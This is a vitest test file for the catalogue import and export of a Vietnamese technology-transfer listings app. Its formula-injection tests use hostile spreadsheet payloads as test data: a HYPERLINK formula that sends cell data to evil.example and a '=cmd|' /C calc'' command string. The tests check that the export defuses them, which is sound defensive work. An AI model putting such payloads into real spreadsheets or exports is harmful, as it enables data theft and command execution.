import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { parse as parseCsv } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { prisma } from "~/lib/db.server.ts";
import { loadActor } from "~/modules/auth/actor.server.ts";
import type { Actor } from "~/modules/auth/permissions.ts";
import { startSession } from "~/modules/auth/session.server.ts";
import { exportListings, importCatalogue, loadProvinceIndex, parseCatalogue, type ImportReport } from "~/modules/listings/import.server.ts";
import { expiryFrom } from "~/modules/listings/lifecycle.ts";
import { action as importAction, loader as importLoader } from "~/routes/import.tsx";
import { loader as exportLoader } from "~/routes/listings.export.tsx";
import { createListing, createMemberWithOrganisation, createOrganisation, createUser, unique } from "./factories/index.ts";
import { runScript } from "./setup/cli.ts";
import { call, getRequest, settle } from "./setup/requests.ts";

async function brokerActor() {
  const user = await createUser({ roles: ["member", "broker"] });
  return { user, actor: (await loadActor(user.id))! };
}

async function cookieFor(userId: string) {
  const header = await startSession(userId, getRequest("/"), { clientIp: "203.0.113.9" });
  return header.split(";")[0]!;
}

const ORG = { name: "Viện Nghiên cứu Sau thu hoạch (thử nghiệm nhập)", kind: "RESEARCH_INSTITUTE" };

function technologyOffer(ref: string, overrides: Record<string, unknown> = {}) {
  return {
    externalRef: ref,
    type: "TECHNOLOGY_OFFER",
    language: "vi",
    title: "Công nghệ sấy lạnh bơm nhiệt bảo quản thanh long, xoài",
    summary: "Quy trình và thiết kế máy sấy lạnh dùng bơm nhiệt hai cấp, giữ màu tự nhiên và vitamin C, tiết kiệm khoảng 35% điện năng.",
    description: "### Bối cảnh\nSấy nóng truyền thống làm sản phẩm sẫm màu.\n\n- Năng suất: **300 kg/mẻ**",
    keywords: ["sấy lạnh", "bơm nhiệt", "thanh long, xoài"],
    sectors: ["2.11", "4.1"],
    province: "ha noi",
    country: "VN",
    trl: 8,
    ipStatus: "UTILITY_SOLUTION_GRANTED",
    ipNumbers: ["2-0002871"],
    transferObjects: ["KNOW_HOW", "TRAINING"],
    transferModes: ["LICENSE_NON_EXCLUSIVE", "TECHNICAL_ASSISTANCE"],
    price: { type: "NEGOTIABLE", min: 180_000_000, max: 650_000_000, currency: "VND" },
    confidentialDetails: "Thanh long cắt lát 7 mm, chần 85 °C trong 90 giây.",
    organisation: ORG,
    ...overrides,
  };
}

function equipmentOffer(ref: string, overrides: Record<string, unknown> = {}) {
  return {
    externalRef: ref,
    type: "EQUIPMENT_OFFER",
    language: "vi",
    title: "Bán máy phay CNC đứng Haas VF-2 (2017) kèm bàn xoay trục thứ 4",
    summary: "Máy phay CNC Haas VF-2 sản xuất năm 2017, đang vận hành tốt, bán do chuyển sang dòng máy 5 trục.",
    sectors: ["2.3"],
    province: "Bình Dương",
    transferModes: ["EQUIPMENT_SALE"],
    price: { type: "FIXED", min: 950_000_000, max: 950_000_000, currency: "VND" },
    equipment: {
      condition: "USED",
      manufacturer: "Haas Automation",
      model: "VF-2",
      year: 2017,
      quantity: 1,
      specifications: { "Hành trình X/Y/Z": "762 × 406 × 508 mm", "Tốc độ trục chính": "8.100 vòng/phút" },
      leaseAvailable: false,
    },
    organisation: ORG,
    ...overrides,
  };
}

function technologyRequest(ref: string, overrides: Record<string, unknown> = {}) {
  return {
    externalRef: ref,
    type: "TECHNOLOGY_REQUEST",
    language: "vi",
    title: "Cần công nghệ xử lý nước thải chế biến cá tra 1.200 m³/ngày",
    summary: "Nhà máy chế biến cá tra tìm công nghệ đã kiểm chứng để nâng công suất hệ thống xử lý nước thải, đạt cột A ổn định.",
    problemStatement: "Hệ thống xử lý nước thải 800 m³/ngày đang quá tải; amoni và tổng nitơ thường xuyên vượt cột A.",
    sectors: ["2.7"],
    province: "Cần Thơ",
    minTrl: 7,
    budget: { min: 7_000_000_000, max: 10_000_000_000, currency: "VND" },
    transferModes: ["TURNKEY"],
    deadline: "2027-03-31",
    preferredProvinces: ["Cần Thơ", "dong thap", "Sóc Trăng"],
    organisation: ORG,
    ...overrides,
  };
}

/** Good rows and one bad row of each kind the brief lists, with the line and field each must be reported on. */
function mixedRows(prefix: string) {
  const good = [technologyOffer(`${prefix}-TO-1`), equipmentOffer(`${prefix}-EO-1`), technologyRequest(`${prefix}-TR-1`)];
  const bad = [
    { row: technologyOffer(`${prefix}-BAD-TYPE`, { type: "SERVICE_OFFER" }), field: "type", message: "errors.listingType" },
    { row: technologyOffer(`${prefix}-BAD-TITLE`, { title: undefined }), field: "title", message: "errors.required" },
    { row: technologyOffer(`${prefix}-BAD-SUMMARY`, { summary: "Quá dài. ".repeat(80) }), field: "summary", message: "errors.summaryLength" },
    {
      // A new organisation on a bad row must not be created either.
      row: technologyOffer(`${prefix}-BAD-SECTOR`, { sectors: ["9.99"], organisation: { name: `${prefix} Tổ chức không được tạo`, kind: "ENTERPRISE" } }),
      field: "sectors",
      message: "errors.sector",
    },
    { row: technologyOffer(`${prefix}-BAD-PROVINCE`, { province: "Xứ Sở Thần Tiên" }), field: "province", message: "import.errors.unknownProvince" },
    { row: equipmentOffer(`${prefix}-BAD-FIXED`, { price: { type: "FIXED", currency: "VND" } }), field: "price.min", message: "errors.fixedNeedsPrice" },
    { row: technologyRequest(`${prefix}-BAD-RANGE`, { budget: { min: 9_000_000, max: 1_000_000, currency: "VND" } }), field: "budget.max", message: "errors.maxBelowMin" },
    { row: technologyOffer(`${prefix}-BAD-ENUM`, { ipStatus: "PATENTED" }), field: "ipStatus", message: "errors.chooseOne" },
  ];
  return { good, bad };
}

async function listingsWithRefPrefix(prefix: string) {
  return prisma.listing.findMany({
    where: { externalRef: { startsWith: `${prefix}-` } },
    include: { sectors: true, events: true, confidential: true },
    orderBy: { externalRef: "asc" },
  });
}

function expectBadRowsReported(report: ImportReport, bad: { field: string; message: string }[], lines: number[]) {
  const failed = report.rows.filter((r) => r.status === "failed");
  expect(failed.map((r) => r.line)).toEqual(lines);
  bad.forEach((b, i) => expect(failed[i]!.errors).toContainEqual(expect.objectContaining({ field: b.field, message: b.message })));
}

async function expectGoodRowsPublished(prefix: string, brokerId: string, fileName: string) {
  const listings = await listingsWithRefPrefix(prefix);
  expect(listings.map((l) => l.externalRef)).toEqual([`${prefix}-EO-1`, `${prefix}-TO-1`, `${prefix}-TR-1`]);
  for (const l of listings) {
    expect(l.status).toBe("PUBLISHED");
    expect(l.publishedAt).toBeInstanceOf(Date);
    expect(l.submittedAt).toBeInstanceOf(Date);
    expect(l.expiresAt!.getTime()).toBe(expiryFrom(l.publishedAt!).getTime());
    expect(l.events).toEqual([expect.objectContaining({ kind: "IMPORTED", toStatus: "PUBLISHED", actorId: brokerId, reason: `import ${fileName}` })]);
  }
  return listings;
}

function toCsv(rows: Record<string, unknown>[], columns: string[]) {
  const cell = (row: Record<string, unknown>, column: string) => {
    const [top, sub] = column.split(".") as [string, string | undefined];
    const v = sub ? (row[top] as Record<string, unknown> | undefined)?.[sub] : row[top];
    if (v === undefined || v === null) return "";
    const text = Array.isArray(v) ? v.join("; ") : typeof v === "object" ? JSON.stringify(v) : String(v);
    return /[",\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
  };
  return [columns.join(","), ...rows.map((r) => columns.map((c) => cell(r, c)).join(","))].join("\r\n") + "\r\n";
}

const CSV_TEST_COLUMNS = [
  "externalRef", "type", "language", "title", "summary", "description", "keywords", "sectors", "province", "trl", "ipStatus", "ipNumbers",
  "transferObjects", "transferModes", "price.type", "price.min", "price.max", "price.currency", "equipment.condition", "equipment.manufacturer",
  "equipment.model", "equipment.year", "equipment.quantity", "equipment.specifications", "equipment.leaseAvailable", "problemStatement", "minTrl",
  "budget.min", "budget.max", "budget.currency", "deadline", "preferredProvinces", "confidentialDetails", "organisation.name", "organisation.kind",
];

describe("importing a JSON catalogue", () => {
  it("publishes the good rows with an IMPORTED event and reports each bad row by its row number, writing nothing for it", async () => {
    const { user, actor } = await brokerActor();
    const { good, bad } = mixedRows("J1");
    const rows = [...good, ...bad.map((b) => b.row)];
    const sectorRowsBefore = await prisma.listingSector.count();
    const report = await importCatalogue(actor, { fileName: "catalogue.json", content: JSON.stringify(rows) });

    expect(report).toMatchObject({ refused: null, format: "json", total: 11, created: 3, updated: 0, unchanged: 0, failed: 8 });
    expect(report.rows.slice(0, 3).map((r) => r.status)).toEqual(["created", "created", "created"]);
    expectBadRowsReported(report, bad, [4, 5, 6, 7, 8, 9, 10, 11]);
    expect(report.rows[6]!.errors).toEqual([{ field: "sectors", message: "errors.sector" }]);

    const listings = await expectGoodRowsPublished("J1", user.id, "catalogue.json");
    // Only the good rows' sectors were written: 1 + 2 + 1.
    expect((await prisma.listingSector.count()) - sectorRowsBefore).toBe(4);
    expect(await prisma.organisation.count({ where: { name: { startsWith: "J1 " } } })).toBe(0);
    const [equipment, offer, request] = listings;
    expect(offer!.provinceCode).toBe("01");
    expect(offer!.keywords).toEqual(["sấy lạnh", "bơm nhiệt", "thanh long, xoài"]);
    expect(offer!.confidential?.details).toContain("85 °C");
    expect(offer!.priceMin).toBe(180_000_000n);
    expect(equipment!.provinceCode).toBe("79");
    expect(equipment!.specifications).toEqual({ "Hành trình X/Y/Z": "762 × 406 × 508 mm", "Tốc độ trục chính": "8.100 vòng/phút" });
    // "Sóc Trăng" merged into Cần Thơ in 2025: the same unit is kept once.
    expect(request!.preferredProvinceCodes).toEqual(["92", "82"]);
    expect(request!.deadline!.toISOString()).toBe("2027-03-30T17:00:00.000Z");
    // The new organisation was created once, with the kind given.
    expect(await prisma.organisation.findMany({ where: { name: ORG.name }, select: { kind: true } })).toEqual([{ kind: "RESEARCH_INSTITUTE" }]);

    const run = await prisma.importRun.findUniqueOrThrow({ where: { id: report.importRunId! } });
    expect(run).toMatchObject({ userId: user.id, format: "json", fileName: "catalogue.json", totalRows: 11, createdCount: 3, updatedCount: 0, failedCount: 8 });
  });

  it("is idempotent: the same file again creates nothing and changes nothing; an edited row is updated", async () => {
    const { user, actor } = await brokerActor();
    const { good, bad } = mixedRows("J2");
    const rows = [...good, ...bad.map((b) => b.row)];
    await importCatalogue(actor, { fileName: "catalogue.json", content: JSON.stringify(rows) });
    const before = await listingsWithRefPrefix("J2");

    const again = await importCatalogue(actor, { fileName: "catalogue.json", content: JSON.stringify(rows) });
    expect(again).toMatchObject({ total: 11, created: 0, updated: 0, unchanged: 3, failed: 8 });
    const after = await listingsWithRefPrefix("J2");
    expect(after.map((l) => [l.id, l.version, l.updatedAt.getTime(), l.events.length])).toEqual(before.map((l) => [l.id, l.version, l.updatedAt.getTime(), 1]));

    const edited = [...rows];
    edited[0] = technologyOffer("J2-TO-1", { title: "Công nghệ sấy lạnh bơm nhiệt thế hệ 2 cho trái cây nhiệt đới", trl: 9 });
    const third = await importCatalogue(actor, { fileName: "catalogue-v2.json", content: JSON.stringify(edited) });
    expect(third).toMatchObject({ created: 0, updated: 1, unchanged: 2, failed: 8 });
    expect(third.rows[0]).toMatchObject({ line: 1, externalRef: "J2-TO-1", status: "updated", errors: [] });
    const offer = (await listingsWithRefPrefix("J2")).find((l) => l.externalRef === "J2-TO-1")!;
    expect(offer).toMatchObject({ title: "Công nghệ sấy lạnh bơm nhiệt thế hệ 2 cho trái cây nhiệt đới", trl: 9, status: "PUBLISHED" });
    expect(offer.events.map((e) => [e.kind, e.actorId, e.reason]).sort()).toEqual([
      ["IMPORTED", user.id, "import catalogue-v2.json"],
      ["IMPORTED", user.id, "import catalogue.json"],
    ]);
    expect(await prisma.listing.count({ where: { externalRef: { startsWith: "J2-" } } })).toBe(3);
  });

  it("uses the default organisation for rows without one, and fails them clearly without it", async () => {
    const { actor } = await brokerActor();
    const organisation = await createOrganisation();
    const row = technologyOffer("J3-TO-1", { organisation: undefined });
    const without = await importCatalogue(actor, { fileName: "a.json", content: JSON.stringify([row]) });
    expect(without.rows[0]).toMatchObject({ status: "failed", errors: [{ field: "organisation.name", message: "import.errors.organisationRequired" }] });
    const withDefault = await importCatalogue(actor, { fileName: "a.json", content: JSON.stringify([row]), defaultOrganisationId: organisation.id });
    expect(withDefault.created).toBe(1);
    expect((await prisma.listing.findFirstOrThrow({ where: { externalRef: "J3-TO-1" } })).organisationId).toBe(organisation.id);
  });

  it("reports a reference used twice in one file, and a field that does not belong to the row's type", async () => {
    const { actor } = await brokerActor();
    const rows = [technologyOffer("J4-DUP"), technologyOffer("J4-DUP"), technologyRequest("J4-TR", { price: { type: "FIXED", min: 1, currency: "VND" } })];
    const report = await importCatalogue(actor, { fileName: "dup.json", content: JSON.stringify(rows) });
    expect(report.rows.map((r) => r.status)).toEqual(["created", "failed", "failed"]);
    expect(report.rows[1]!.errors).toEqual([{ field: "externalRef", message: "import.errors.duplicateRef", values: { line: 1 } }]);
    expect(report.rows[2]!.errors).toContainEqual({ field: "price", message: "import.errors.fieldNotForType", values: { type: "TECHNOLOGY_REQUEST" } });
  });
});

describe("importing a CSV catalogue", () => {
  it("reads a UTF-8 file with BOM, CRLF and quoted multi-line fields, and reports bad rows by physical line", async () => {
    const { user, actor } = await brokerActor();
    const { good, bad } = mixedRows("C1");
    // The offer's description spans 4 physical lines, so every later row starts 3 lines further down.
    const csv = "\uFEFF" + toCsv([...good, ...bad.map((b) => b.row)], CSV_TEST_COLUMNS);
    const report = await importCatalogue(actor, { fileName: "catalogue.csv", content: csv });

    expect(report).toMatchObject({ refused: null, format: "csv", total: 11, created: 3, failed: 8 });
    expect(report.rows.slice(0, 3).map((r) => [r.line, r.status])).toEqual([
      [2, "created"],
      [6, "created"],
      [7, "created"],
    ]);
    // Each bad technology offer carries the same 4-line description.
    expectBadRowsReported(report, bad, [8, 12, 16, 20, 24, 28, 29, 30]);
    const listings = await expectGoodRowsPublished("C1", user.id, "catalogue.csv");
    expect(listings.find((l) => l.type === "TECHNOLOGY_OFFER")!.description).toBe("### Bối cảnh\nSấy nóng truyền thống làm sản phẩm sẫm màu.\n\n- Năng suất: **300 kg/mẻ**");
    expect(listings.find((l) => l.type === "EQUIPMENT_OFFER")!.specifications).toEqual({
      "Hành trình X/Y/Z": "762 × 406 × 508 mm",
      "Tốc độ trục chính": "8.100 vòng/phút",
    });
    expect(await prisma.organisation.count({ where: { name: { startsWith: "C1 " } } })).toBe(0);

    const again = await importCatalogue(actor, { fileName: "catalogue.csv", content: csv });
    expect(again).toMatchObject({ created: 0, updated: 0, unchanged: 3, failed: 8 });
    expect(await prisma.listing.count({ where: { externalRef: { startsWith: "C1-" } } })).toBe(3);
  });

  it("accepts 'Key: value' specifications and yes/no booleans, and reports a row with the wrong number of cells", async () => {
    const { actor } = await brokerActor();
    const header = "externalRef,type,language,title,summary,sectors,province,transferModes,price.type,equipment.condition,equipment.specifications,equipment.leaseAvailable,organisation.name,organisation.kind";
    const csv = [
      header,
      `C2-EO-1,equipment_offer,vi,Cho thuê máy sấy thăng hoa pilot 10 kg/mẻ,Máy sấy thăng hoa Martin Christ cho thuê theo mẻ để sản xuất thử.,2.11,TP HCM,EQUIPMENT_LEASE,negotiable,refurbished,"Công suất: 10 kg/mẻ; Nhiệt độ ngưng tụ: −85 °C",có,${ORG.name},RESEARCH_INSTITUTE`,
      "C2-EO-2,EQUIPMENT_OFFER,vi,Thiếu cột",
      "",
    ].join("\n");
    const report = await importCatalogue(actor, { fileName: "c2.csv", content: csv });
    expect(report.rows.map((r) => [r.line, r.status])).toEqual([
      [2, "created"],
      [3, "failed"],
    ]);
    expect(report.rows[1]!.errors).toContainEqual({ field: "", message: "import.errors.columnCount", values: { expected: 14, got: 4 } });
    const listing = await prisma.listing.findFirstOrThrow({ where: { externalRef: "C2-EO-1" } });
    expect(listing).toMatchObject({ provinceCode: "79", condition: "REFURBISHED", leaseAvailable: true, priceType: "NEGOTIABLE" });
    expect(listing.specifications).toEqual({ "Công suất": "10 kg/mẻ", "Nhiệt độ ngưng tụ": "−85 °C" });
  });
});

describe("provinces", () => {
  it("are matched by name with or without diacritics, alias, former province and code", async () => {
    const provinceOf = await loadProvinceIndex();
    expect(provinceOf("Bình Dương")).toBe("79");
    expect(provinceOf("binh duong")).toBe("79");
    expect(provinceOf("ha noi")).toBe("01");
    expect(provinceOf("Thành phố Hà Nội")).toBe("01");
    expect(provinceOf("TP. Hồ Chí Minh")).toBe("79");
    expect(provinceOf("Sài Gòn")).toBe("79");
    expect(provinceOf("Đắk Lắk")).toBe(provinceOf("dak lak"));
    expect(provinceOf("1")).toBe("01");
    expect(provinceOf("92")).toBe("92");
    expect(provinceOf("99")).toBeNull();
    expect(provinceOf("Xứ Sở Thần Tiên")).toBeNull();
  });
});

describe("files refused whole", () => {
  it("refuses an unknown format, a file over 5 MB or 5,000 rows, invalid JSON and a CSV without the required columns", async () => {
    const { actor } = await brokerActor();
    const runsBefore = await prisma.importRun.count();
    const listingsBefore = await prisma.listing.count();
    const cases: [string, string, string][] = [
      ["catalogue.xlsx", "whatever", "import.refused.unknownFormat"],
      ["big.json", JSON.stringify([technologyOffer("R-BIG", { description: "x".repeat(5_000_001) })]), "import.refused.tooLarge"],
      ["many.json", JSON.stringify(Array.from({ length: 5_001 }, (_, i) => ({ externalRef: `R-MANY-${i}` }))), "import.refused.tooManyRows"],
      ["broken.json", '[{"externalRef": "R-1", ', "import.refused.invalidJson"],
      ["object.json", JSON.stringify({ listings: [] }), "import.refused.notArray"],
      ["empty.json", "[]", "import.refused.empty"],
      ["columns.csv", "externalRef,type,title\nR-1,TECHNOLOGY_OFFER,Tiêu đề đủ dài\n", "import.refused.missingColumns"],
      ["typo.csv", "externalRef,type,language,title,summary,sectors,titel\n", "import.refused.unknownColumns"],
      ["quote.csv", 'externalRef,type,language,title,summary,sectors\nR-1,"TECHNOLOGY_OFFER\n', "import.refused.invalidCsv"],
    ];
    for (const [fileName, content, message] of cases) {
      const report = await importCatalogue(actor, { fileName, content });
      expect(report.refused?.message, fileName).toBe(message);
      expect(report).toMatchObject({ importRunId: null, total: 0, rows: [] });
    }
    const missing = await importCatalogue(actor, { fileName: "c.csv", content: "externalRef,type,title\n" });
    expect(missing.refused).toEqual({ message: "import.refused.missingColumns", values: { columns: "language, summary, sectors" } });
    expect(await prisma.importRun.count()).toBe(runsBefore);
    expect(await prisma.listing.count()).toBe(listingsBefore);
  });
});

describe("who may import", () => {
  it("refuses a member without broker rights with 403 and writes nothing", async () => {
    const { user } = await createMemberWithOrganisation();
    const member = (await loadActor(user.id))!;
    const runsBefore = await prisma.importRun.count();
    const thrown = await importCatalogue(member, { fileName: "m.json", content: JSON.stringify([technologyOffer("M-1")]) }).catch((e: unknown) => e);
    expect(thrown).toBeInstanceOf(Response);
    expect((thrown as Response).status).toBe(403);
    expect(await prisma.listing.count({ where: { externalRef: "M-1" } })).toBe(0);
    expect(await prisma.importRun.count()).toBe(runsBefore);

    const cookie = await cookieFor(user.id);
    expect((await settle(call(importLoader, getRequest("/import", cookie)))).status).toBe(403);
    const body = new FormData();
    body.set("file", new File([JSON.stringify([technologyOffer("M-2")])], "m.json", { type: "application/json" }));
    const response = await settle(call(importAction, new Request("http://localhost/import", { method: "POST", body, headers: { Cookie: cookie } })));
    expect(response.status).toBe(403);
    expect(await prisma.listing.count({ where: { externalRef: { in: ["M-1", "M-2"] } } })).toBe(0);
  });

  it("lets a broker upload a file on the import page and shows the report", async () => {
    const { user } = await brokerActor();
    const cookie = await cookieFor(user.id);
    const page = await settle(call(importLoader, getRequest("/import", cookie)));
    expect(page.status).toBe(200);
    const body = new FormData();
    body.set("file", new File([JSON.stringify([technologyOffer("P-1"), technologyOffer("P-2", { title: "Sai" })])], "page.json", { type: "application/json" }));
    const response = await settle(call(importAction, new Request("http://localhost/import", { method: "POST", body, headers: { Cookie: cookie } })));
    expect(response.status).toBe(200);
    const data = (await response.json()) as { kind: string; report: ImportReport };
    expect(data.kind).toBe("report");
    expect(data.report).toMatchObject({ created: 1, failed: 1 });
    expect(data.report.rows[1]).toMatchObject({ line: 2, externalRef: "P-2", errors: [{ field: "title", message: "errors.titleLength" }] });

    const refusedBody = new FormData();
    refusedBody.set("file", new File(["not json"], "bad.json"));
    const refused = await settle(call(importAction, new Request("http://localhost/import", { method: "POST", body: refusedBody, headers: { Cookie: cookie } })));
    expect(refused.status).toBe(400);
    expect(await refused.json()).toMatchObject({ kind: "refused", refused: { message: "import.refused.invalidJson" } });
  });
});

describe("export", () => {
  async function roundTrip(actor: Actor, format: "json" | "csv") {
    const exported = await exportListings(actor, { format });
    return importCatalogue(actor, { fileName: `export.${format}`, content: exported });
  }

  it("re-imports its own output with every row unchanged, in JSON and CSV, including listings made in the app", async () => {
    const { actor } = await brokerActor();
    const organisation = await createOrganisation({ name: unique("Công ty Cổ phần Cơ khí Thành Đạt") });
    await createListing(organisation.id, { type: "TECHNOLOGY_OFFER" });
    await createListing(organisation.id, { type: "EQUIPMENT_OFFER", status: "DRAFT" });
    await createListing(organisation.id, { type: "TECHNOLOGY_REQUEST", confidential: { details: "Ngân sách chi tiết; hạn chót nội bộ.", ndaText: "NDA" } });
    await importCatalogue(actor, { fileName: "seed.json", content: JSON.stringify([technologyOffer("X-TO-1"), equipmentOffer("X-EO-1"), technologyRequest("X-TR-1")]) });
    const total = await prisma.listing.count();

    for (const format of ["json", "csv"] as const) {
      const report = await roundTrip(actor, format);
      expect(report.failed, JSON.stringify(report.rows.filter((r) => r.status === "failed"))).toBe(0);
      expect(report).toMatchObject({ total, created: 0, updated: 0, unchanged: total });
    }
    expect(await prisma.listing.count()).toBe(total);
  });

  it("writes CSV with a UTF-8 BOM and Vietnamese text intact, served as an attachment scoped to the member's organisations", async () => {
    const { actor } = await brokerActor();
    await importCatalogue(actor, { fileName: "vi.json", content: JSON.stringify([technologyOffer("V-TO-1", { title: "Công nghệ ủ phân hữu cơ từ vỏ cà phê – Đắk Lắk" })]) });
    const csv = await exportListings(actor, { format: "csv" });
    expect(csv.startsWith("\uFEFFexternalRef,type,language,title,")).toBe(true);
    expect(csv).toContain("Công nghệ ủ phân hữu cơ từ vỏ cà phê – Đắk Lắk");

    const { user, organisation } = await createMemberWithOrganisation();
    const own = await createListing(organisation.id, { title: "Tin riêng của thành viên về máy sấy" });
    const response = await exportLoader({ request: getRequest("/listings/export?format=csv", await cookieFor(user.id)), params: {}, context: { clientIp: "203.0.113.9" } });
    expect(response.status).toBe(200);
    expect(response.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("Content-Disposition")).toMatch(/^attachment; filename="techex-listings-\d{4}-\d{2}-\d{2}\.csv"$/);
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes);
    expect(text).toContain(own.id);
    expect(text).toContain("Tin riêng của thành viên về máy sấy");
    expect(text).not.toContain("V-TO-1");

    const json = await exportLoader({ request: getRequest("/listings/export?format=json&status=PUBLISHED", await cookieFor(user.id)), params: {}, context: { clientIp: "203.0.113.9" } });
    expect(JSON.parse(await json.text())).toEqual([expect.objectContaining({ externalRef: own.id, organisation: expect.objectContaining({ id: organisation.id }) })]);
    const bad = await exportLoader({ request: getRequest("/listings/export?format=xlsx", await cookieFor(user.id)), params: {}, context: { clientIp: "203.0.113.9" } });
    expect(bad.status).toBe(400);
  });
});

describe("export against formula injection", () => {
  // Titles a spreadsheet would run as formulas (OWASP's characters), one that already starts with a quote, one that is safe.
  const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "  =1+1", "'=quoted", "'plain"];

  /** The export's cells as a spreadsheet reads them: records keyed by column, CR kept as it was written. */
  function cells(csv: string) {
    const [head, ...body] = parseCsv(csv.replace(/^\uFEFF/, ""), { relax_column_count: true }) as string[][];
    return body.map((record) => Object.fromEntries(head!.map((column, i) => [column, record[i]!])));
  }

  it("writes every cell that could start a formula with a leading quote, numbers as numbers", async () => {
    const { actor } = await brokerActor();
    const organisation = await createOrganisation({ name: "=cmd|' /C calc'!A0" });
    const listings = [];
    for (const title of FORMULAS) listings.push(await createListing(organisation.id, { title, keywords: ["@mention", "an toàn"], priceMin: 1_000_000n, currency: "VND" }));
    const csv = await exportListings(actor, { format: "csv", organisationId: organisation.id });
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);

    const rows = new Map(cells(csv).map((row) => [row.externalRef, row]));
    const expected: Record<string, string> = {
      '=HYPERLINK("http://evil.example/?x="&A1,"click")': `'=HYPERLINK("http://evil.example/?x="&A1,"click")`,
      "+1": "'+1",
      "-2+3": "'-2+3",
      "@SUM(A1)": "'@SUM(A1)",
      "\tx": "'\tx",
      "\rx": "'\rx",
      "  =1+1": "'  =1+1",
      "'=quoted": "''=quoted",
      "'plain": "'plain",
    };
    for (const listing of listings) {
      const row = rows.get(listing.id)!;
      expect(row.title, JSON.stringify(listing.title)).toBe(expected[listing.title]);
      expect(row["organisation.name"]).toBe("'=cmd|' /C calc'!A0");
      expect(row.keywords).toBe("'@mention; an toàn");
      expect(row.summary).toBe(listing.summary);
      expect(row["price.min"]).toBe("1000000");
    }
    // No cell of the file starts with a formula character unguarded.
    for (const row of rows.values()) for (const value of Object.values(row)) expect(value, value).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("reads its own export back to the same titles", async () => {
    const { actor } = await brokerActor();
    const organisation = await createOrganisation({ name: unique("Công ty Cổ phần Bảng tính") });
    const titles = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1 đường dây nóng", "-2+3 cmd|' /C calc'!A0", "@SUM(A1) chi phí", "'=đã có dấu nháy"];
    for (const title of titles) await createListing(organisation.id, { title });
    const csv = await exportListings(actor, { format: "csv", organisationId: organisation.id });

    const report = await importCatalogue(actor, { fileName: "export.csv", content: csv });
    expect(report.failed, JSON.stringify(report.rows.filter((r) => r.status === "failed"))).toBe(0);
    expect(report).toMatchObject({ total: titles.length, unchanged: titles.length, created: 0, updated: 0 });
    const stored = await prisma.listing.findMany({ where: { organisationId: organisation.id }, select: { title: true } });
    expect(stored.map((l) => l.title).sort()).toEqual([...titles].sort());

    // Leading tabs and carriage returns come back as the importer reads any such text (a CR as a line feed), without the guard's quote.
    const odd = await createOrganisation({ name: unique("Tổ chức ký tự lạ") });
    await createListing(odd.id, { title: "\tx" });
    await createListing(odd.id, { title: "\rx" });
    const parsed = parseCatalogue("export.csv", await exportListings(actor, { format: "csv", organisationId: odd.id }));
    expect(parsed.ok && parsed.rows.map((r) => (r.data as { title: string }).title).sort()).toEqual(["\tx", "\nx"]);
  });
});

describe("the documented examples", () => {
  it("import cleanly, JSON and CSV alike", async () => {
    const { actor } = await brokerActor();
    for (const file of ["docs/examples/catalogue.json", "docs/examples/catalogue.csv"]) {
      const report = await importCatalogue(actor, { fileName: path.basename(file), content: readFileSync(file, "utf8") });
      expect(report, file).toMatchObject({ refused: null, failed: 0, created: 4 });
    }
  });
});

describe("the import command", () => {
  const run = (args: string[]) => runScript("scripts/import.ts", args);

  it("imports the documented example and prints the summary; exits 1 on a bad file", async () => {
    const broker = await createUser({ roles: ["member", "broker"] });
    const ok = await run(["docs/examples/catalogue.json", "--user", broker.email]);
    expect(ok.stderr).not.toContain(`"level":"error"`);
    expect(ok.status).toBe(0);
    // The examples were imported above, so this run finds all four in place.
    expect(ok.stdout).toMatch(/^catalogue\.json: 4 rows, 0 created, 0 updated, 4 unchanged, 0 failed \(import run \w+\)\.$/m);

    const dir = mkdtempSync(path.join(tmpdir(), "techex-import-"));
    const badFile = path.join(dir, "bad.json");
    writeFileSync(badFile, JSON.stringify([technologyOffer("CLI-1"), technologyOffer("CLI-2", { province: "Atlantis" })]));
    const bad = await run([badFile, "--user", broker.email]);
    expect(bad.status).toBe(1);
    expect(bad.stdout).toContain('row 2 (CLI-2): province: Unknown province or city "Atlantis"');
    expect(bad.stdout).toMatch(/bad\.json: 2 rows, 1 created, 0 updated, 0 unchanged, 1 failed/);

    const brokenFile = path.join(dir, "broken.json");
    writeFileSync(brokenFile, "{ nope");
    const broken = await run([brokenFile, "--user", broker.email, "--lang", "vi"]);
    expect(broken.status).toBe(1);
    expect(broken.stderr).toContain("broken.json: chưa nhập. Tệp không phải JSON hợp lệ");

    const member = await createUser();
    const refused = await run(["docs/examples/catalogue.json", "--user", member.email]);
    expect(refused.status).toBe(1);
    expect(refused.stderr).toContain("may not import");
  }, 90_000);
});
